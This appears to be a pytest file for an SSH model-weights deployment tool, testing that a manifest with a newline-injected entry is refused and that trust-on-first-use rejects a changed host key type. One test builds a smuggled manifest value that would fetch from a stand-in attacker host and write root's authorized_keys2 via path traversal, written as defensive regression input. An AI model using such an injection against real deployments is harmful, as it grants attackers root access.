"""Hostile input on real test hosts: a manifest from the bucket that would write as root past the model folder,
and a known host that offers a key of a type nobody trusted for it."""
from __future__ import annotations

import hashlib
import subprocess

import paramiko
import pytest

from infra.errors import RemoteError
from infra.storage.settings import StoreSettings
from infra.storage.sync import push
from infra.targets.ssh import pool
from infra.targets.ssh.hostkeys import HostKeyPolicy, key_line, verify
from tests.support.ssh_env import BUCKET, FILES, apply, deployment, ops_log, fresh_sessions, weights_store  # noqa: F401
from tests.support.storage_util import edit_manifest


def test_a_manifest_line_injection_is_refused_before_the_host_is_touched(make_hosts, weights_store, tmp_path):
    (h,) = make_hosts(1)
    st = StoreSettings(weights_store.endpoint, weights_store.region, BUCKET, weights_store.access_key,
                       weights_store.secret_key)
    for rel, data in FILES.items():
        (tmp_path / rel).write_bytes(data)
    push(st, tmp_path, "hostile", show=False)
    sha = hashlib.sha256(FILES["config.json"]).hexdigest()
    # Before: the newline made a fetch line of its own, and fetch.sh (as root) wrote the attacker's file.
    inject = f"\n{sha} {len(FILES['config.json'])} ../../../../root/.ssh/authorized_keys2 http://attacker.invalid/k"
    edit_manifest(st, "hostile", lambda f: f.update(path=f["path"] + inject) if f["path"] == "config.json" else None)
    d = deployment([h], weights_store)
    d = d.model_copy(update={"model": d.model.model_copy(update={"weights": f"s3://{BUCKET}/hostile"})})
    with pytest.raises(RemoteError) as e:  # the host's failure, naming the store's manifest and the entry
        apply(d, [h], weights_store)
    text = e.value.render()
    assert "inferry-manifest.json is refused before anything is fetched" in text
    assert f"s3://{BUCKET}/hostile/inferry-manifest.json" in text and "control character" in text
    assert h.exec("ls -A /root/.ssh/authorized_keys2 /var/lib/inferry/weights/hostile").returncode != 0
    assert ops_log(h) == []


def test_trust_on_first_use_never_takes_a_new_key_type_for_a_known_host(make_hosts, weights_store, tmp_path):
    (h,) = make_hosts(1)
    known = tmp_path / "known_hosts"
    other = paramiko.ECDSAKey.generate()  # what a known host had: the host now offers only ed25519
    known.write_text(f"{h.address} {key_line(other)}\n")
    d = deployment([h], weights_store, known_hosts=str(known), trust_on_first_use=True)
    d = d.model_copy(update={"target": d.target.model_copy(update={"hosts": [
        hh.model_copy(update={"host_key": None}) for hh in d.target.hosts]})})
    with pytest.raises(RemoteError) as e:
        apply(d, [h], weights_store)
    text = e.value.render()
    assert "offers none of the key types trusted for it (ecdsa-sha2-nistp256)" in text
    assert known.read_text() == f"{h.address} {key_line(other)}\n" and ops_log(h) == []
    # The printed fix, as printed: forget the old key, then trust on first use records the new one.
    fix = text.split("`")[1]
    assert fix == f"ssh-keygen -R '{h.address}' -f {known}"
    subprocess.run(fix, shell=True, check=True, capture_output=True)
    pool.close_all()
    apply(d, [h], weights_store)
    assert known.read_text().splitlines()[-1] == f"{h.address} {h.host_key_line}"


def test_verify_refuses_a_new_key_type_even_with_trust_on_first_use(tmp_path):
    known = tmp_path / "known_hosts"
    old = paramiko.ECDSAKey.generate()
    known.write_text(f"[203.0.113.7]:2222 {key_line(old)}\n")
    policy = HostKeyPolicy(known_hosts=str(known), trust_on_first_use=True)
    with pytest.raises(RemoteError) as e:
        verify("203.0.113.7", 2222, paramiko.Ed25519Key.from_private_key_file(_ed25519(tmp_path)), policy, "host x")
    assert "has no ssh-ed25519 key but a different key for [203.0.113.7]:2222 (ecdsa-sha2-nistp256)" in str(e.value)
    assert known.read_text() == f"[203.0.113.7]:2222 {key_line(old)}\n"
    verify("203.0.113.8", 22, paramiko.Ed25519Key.from_private_key_file(_ed25519(tmp_path)), policy, "host y")
    assert known.read_text().splitlines()[-1].startswith("203.0.113.8 ssh-ed25519 ")  # a new host: recorded


def _ed25519(tmp_path) -> str:
    path = tmp_path / "k"
    if not path.exists():
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(path)], check=True)
    return str(path)
